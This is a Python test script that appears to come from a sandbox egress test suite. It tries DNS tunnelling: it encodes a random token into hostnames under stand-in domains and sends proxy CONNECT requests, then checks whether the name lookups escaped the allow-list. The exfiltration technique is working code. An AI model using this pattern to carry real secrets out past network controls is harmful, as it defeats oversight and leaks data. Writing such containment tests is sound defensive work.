# attack: data carried out in names that are not allowed
# family: 19
# runs: call exec
# stopped-by: gate-names
# network: {"rules": [{"allow": "allowed.example"}]}
#
# DNS tunnelling: the question itself is the message, no connection needed (AgentCore).
import os
import socket


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def _get(host, path="/", port=80):
    return _talk(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def attack():
    secret = "leak" + os.urandom(6).hex()
    for name in (f"{secret}.tunnel.example", f"{secret}.allowed.example", f"{secret}.other.example"):
        _get(name)  # resolves it, and connects if it has an address
        _talk("127.0.0.1", 15001, f"CONNECT {name}:80 HTTP/1.1\r\n\r\n".encode())
    seen = _get("allowed.example", "/seen")
    if b'"names"' not in seen:
        return "BROKEN: the allowed host does not tell what its name server was asked"
    return (
        "ESCAPED: the name server of the world was asked for the secret"
        if secret.encode() in seen
        else "HELD: no such question left"
    )


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
